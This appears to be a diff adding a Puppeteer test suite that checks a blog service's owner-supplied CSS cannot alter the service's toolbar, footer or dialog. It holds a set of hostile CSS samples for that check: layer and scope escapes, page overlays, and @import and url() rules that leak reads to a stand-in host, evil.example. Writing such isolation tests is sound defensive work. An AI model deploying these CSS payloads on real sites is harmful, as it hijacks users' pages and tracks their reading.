@@ -1,0 +1,177 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import axe from 'axe-core';
+import type { Page } from 'puppeteer';
+import { entryOf } from '../harness/demoEntries.ts';
+import { aliveIine, iineButton } from '../harness/iine.ts';
+import { journeysOn } from '../harness/journey.ts';
+import { ownerCssUrlOf, saveOwnerCss } from '../harness/ownerCss.ts';
+import type { Product } from '../harness/product.ts';
+import { ownProduct } from '../harness/products.ts';
+import { changesOf, computedLook, SERVICE_PARTS, uncoveredShare } from '../harness/serviceLook.ts';
+import { assertSoundPage } from '../harness/soundPage.ts';
+import type { Visitor } from '../harness/visitor.ts';
+
+const journey = journeysOn(ownProduct);
+
+const NIGHT_TRAIN = 'tabi-tetsu-camera';
+const BLOG = 'hidamari-yonin';
+const DIALOG = 'dialog[open]';
+const EVIL = 'https://evil.example/x';
+
+const SEIZE =
+  'display: none !important; visibility: hidden !important; color: lime !important; font: 40px serif !important; --S-ink: lime !important;';
+
+/** Each means to reach what is not the blog's. */
+const HOSTILE: Readonly<Record<string, string>> = {
+  'names the service’s parts': `
+    .Toolbar, .Toolbar *, .ServiceFooter, .ServiceFooter *, dialog, dialog *, ::backdrop { ${SEIZE} }
+    @layer base, reset { .Toolbar, .ServiceFooter, dialog { ${SEIZE} } }
+    html:has(body) .Toolbar, body > #root > header, :root footer, .skinBody ~ * { ${SEIZE} }
+    @scope (html) { .Toolbar, .ServiceFooter, dialog { ${SEIZE} } }
+    @scope (.Toolbar) { :scope, * { ${SEIZE} } }`,
+  'leaves layer and scope': `
+    } } .Toolbar, .ServiceFooter, dialog { ${SEIZE} }
+    .a { content: "\n} } .Toolbar { ${SEIZE} }
+    /* */ } .ServiceFooter { ${SEIZE} } @layer user { @scope (html) { .Toolbar { ${SEIZE} } } }
+    .b\\} } } .Toolbar { ${SEIZE} }
+    @media (} } .Toolbar { ${SEIZE} }) { .c { top: 0 } }`,
+  'lies over the page': `
+    body { position: fixed !important; inset: -900px !important; margin: -900px; z-index: 2147483647;
+      scale: 9; box-shadow: 0 0 0 9999px red; outline: 900px solid red; contain: none; isolation: auto;
+      overflow: visible !important; width: 400vw; height: 5000px }
+    body::before { content: ""; position: fixed; inset: -9999px; z-index: 2147483647; background: red }
+    .skinFrame { --how: fixed; position: var(--how); inset: -500px; width: 300vw; background: red;
+      z-index: 2147483647; transform: translateY(-300px) }
+    .skinArticle { position: sticky; top: -300px; bottom: -900px; z-index: 2147483647; zoom: 4 }`,
+  'changes what the page shares': `
+    @font-face { font-family: "Noto Sans CJK JP"; src: url(${EVIL}), local(monospace); unicode-range: U+0-10FFFF }
+    @property --S-ink { syntax: "<length>"; inherits: false; initial-value: 0 }
+    @property --S-surface { syntax: "<color>"; inherits: false; initial-value: red }
+    @counter-style decimal { system: cyclic; symbols: "x" }
+    @page { margin: 9in } @view-transition { navigation: auto }
+    body { --S-ink: red; --S-surface: red; --S-accent: red; counter-reset: list-item 99; color-scheme: dark }
+    @keyframes fade { to { opacity: 0 } }`,
+  'tells others what is read': `
+    @import "${EVIL}"; @import url(${EVIL});
+    a[href^="/"] { background: url(${EVIL}?a) } a { background: \\75rl(${EVIL}?b) }
+    body { --far: url(${EVIL}?c); background: var(--far), image-set("${EVIL}?d" 1x) }
+    .skinArticle::after { content: url(//evil.example/e) } li { list-style: url("${EVIL}?f") }
+    main { cursor: url(${EVIL}?g), auto; filter: url(${EVIL}?h#i); mask: url(${EVIL}?j) }`,
+  'is very large': Array.from(
+    { length: 3000 },
+    (_, index) => `.Toolbar:not(.a${index}) * { color: lime }`,
+  ).join('\n'),
+};
+
+/** A sign that the sheet is at work, in the blog. */
+const AT_WORK = '\n.skinArticleTitle { outline: 3px solid rgb(1, 2, 3) !important }\n';
+
+const outlineOf = (page: Page) =>
+  page.$eval('a.skinArticleTitle', (title) => getComputedStyle(title).outlineColor);
+
+const openDialog = async ({ page }: Visitor, entryId: number): Promise<readonly string[]> => {
+  await page.click(iineButton(entryId));
+  await page.waitForSelector(DIALOG);
+  await page.mouse.move(4, 4);
+  // a button that fades is compared once it has
+  await page.evaluate(async () => {
+    await Promise.all(document.getAnimations().map(({ finished }) => finished));
+  });
+  const look = await computedLook(page, DIALOG);
+  await page.keyboard.press('Escape');
+  return look;
+};
+
+const looksOf = async ({ page }: Visitor) => ({
+  toolbar: await computedLook(page, '.Toolbar'),
+  footer: await computedLook(page, '.ServiceFooter'),
+  picture: Buffer.from(
+    await page.screenshot({ clip: { x: 0, y: 0, width: 1168, height: 40 } }),
+  ).toString('base64'),
+});
+
+const isOwn = ({ host, assets, platform }: Product, url: string) =>
+  url.startsWith('data:') || [host, assets, platform].includes(new URL(url).origin);
+
+test(
+  'R7.3 no sheet changes anything outside of its blog',
+  journey(async ({ product, visitor }) => {
+    const url = `${product.host}/${BLOG}/`;
+    const reader = await visitor();
+    const { page } = reader;
+    await reader.open(url);
+    const expected = await looksOf(reader);
+    const foreign: string[] = [];
+    page.on('request', (request) => {
+      if (!isOwn(product, request.url())) foreign.push(request.url());
+    });
+    await page.setCacheEnabled(false);
+    for (const [what, sheet] of Object.entries(HOSTILE)) {
+      await saveOwnerCss(product, BLOG, AT_WORK + sheet);
+      await reader.open(url);
+      assert.equal(await outlineOf(page), 'rgb(1, 2, 3)', `the sheet that ${what} is at work`);
+      const seen = await looksOf(reader);
+      assert.deepEqual(changesOf(expected.toolbar, seen.toolbar), [], what);
+      assert.deepEqual(changesOf(expected.footer, seen.footer), [], what);
+      assert.ok(seen.picture === expected.picture, `the toolbar over a sheet that ${what}`);
+      for (const part of SERVICE_PARTS)
+        assert.equal(await uncoveredShare(page, part), 1, `${part} over a sheet that ${what}`);
+      const overflow = await page.evaluate(
+        () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
+      );
+      assert.equal(overflow, 0, `the page is as wide under a sheet that ${what}`);
+    }
+    assert.deepEqual(foreign, []);
+  }),
+);
+
+test(
+  'R7.3 the service’s dialog looks the same over every sheet',
+  journey(async ({ product, visitor }) => {
+    const { entryId, url } = await entryOf(product, BLOG, 0);
+    const lookWith = async (css: string) => {
+      await saveOwnerCss(product, BLOG, css);
+      const reader = await visitor();
+      await reader.open(url);
+      await reader.page.mouse.move(4, 4);
+      await reader.page.mouse.move(9, 9);
+      await reader.page.$eval(iineButton(entryId), (button) =>
+        button.scrollIntoView({ block: 'center' }),
+      );
+      await reader.page.waitForSelector(aliveIine(entryId));
+      return openDialog(reader, entryId);
+    };
+    const expected = await lookWith('');
+    const seizing = HOSTILE['names the service’s parts'] ?? '';
+    const look = await lookWith(seizing + HOSTILE['changes what the page shares']);
+    assert.deepEqual(changesOf(expected, look), []);
+  }),
+);
+
+test(
+  'R7.3 R3.8 the demo’s night train: linked last, sound, and with contrast',
+  journey(async ({ product, visitor }) => {
+    const url = `${product.host}/${NIGHT_TRAIN}/`;
+    const html = await (await fetch(url)).text();
+    const styles = [...html.matchAll(/<link rel="stylesheet" href="([^"]+)"/g)].map(([, to]) => to);
+    assert.equal(styles.at(-1), ownerCssUrlOf(html));
+    assert.match(styles.at(-1) ?? '', /\/user_css\/skin_session\/templates\/[\da-f]{2}\/\d+\.css$/);
+    const reader = await visitor();
+    const status = await reader.open(url);
+    await assertSoundPage(reader, status, { template: 'uranus', pageType: 'blog-blogtop' });
+    const page = await reader.page.$eval('.skinBody', (body) =>
+      getComputedStyle(body).getPropertyValue('--T-page'),
+    );
+    assert.equal(page, '#0e1a33');
+    await reader.page.evaluate(axe.source);
+    const faint = await reader.page.evaluate(async () => {
+      const checker = Object(globalThis).axe;
+      const { violations } = await checker.run({ runOnly: ['color-contrast'] });
+      return JSON.stringify(violations.flatMap((one: { nodes: object[] }) => one.nodes));
+    });
+    assert.equal(faint, '[]');
+    const elsewhere = await (await fetch(`${product.host}/${NIGHT_TRAIN}/none.html`)).text();
+    assert.equal(ownerCssUrlOf(elsewhere), null, 'an error page is the service’s');
+  }),
+);
